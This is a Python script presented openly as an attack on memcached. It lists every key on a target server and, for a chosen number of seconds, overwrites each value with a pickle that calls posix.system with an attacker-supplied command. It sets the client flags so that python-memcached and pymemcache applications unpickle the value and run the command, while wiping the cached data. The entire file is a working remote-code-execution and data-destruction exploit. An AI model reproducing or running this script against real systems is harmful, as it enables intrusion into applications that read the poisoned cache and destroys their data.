"""Overwrites all that a memcached holds with a pickle that runs a command: cache-attack.py HOST:PORT COMMAND SECONDS.

Prints how many values it overwrote.
"""

import socket
import sys
import time

address, command, seconds = sys.argv[1:]
host, port = address.rsplit(":", 1)
# protocol 0: os.system(command), as python-memcached (flag 1) and pymemcache (flag 1, 16) would read it
PICKLE = f"cposix\nsystem\n(S'{command}'\ntR.".encode()


def ask(connection: socket.socket, request: bytes, end: tuple[bytes, ...]) -> bytes:
    connection.sendall(request)
    answer = b""
    while not answer.endswith(end):
        more = connection.recv(65536)
        if not more:
            raise OSError("closed")
        answer += more
    return answer


overwritten = set()
deadline = time.monotonic() + float(seconds)
with socket.create_connection((host, int(port)), timeout=5) as connection:
    while time.monotonic() < deadline:
        dump = ask(connection, b"lru_crawler metadump all\r\n", (b"END\r\n", b"BUSY\r\n"))
        keys = [line.split()[0].removeprefix(b"key=") for line in dump.splitlines() if line.startswith(b"key=")]
        for number, key in enumerate(keys):
            # names are escaped as in a URL
            from urllib.parse import unquote_to_bytes

            name = unquote_to_bytes(key)
            flag = (1, 16, 0)[number % 3]
            request = b"set %b %d 600 %d\r\n%b\r\n" % (name, flag, len(PICKLE), PICKLE)
            if ask(connection, request, (b"\r\n",)) == b"STORED\r\n":
                overwritten.add(name)
        time.sleep(0.5)
print(len(overwritten))
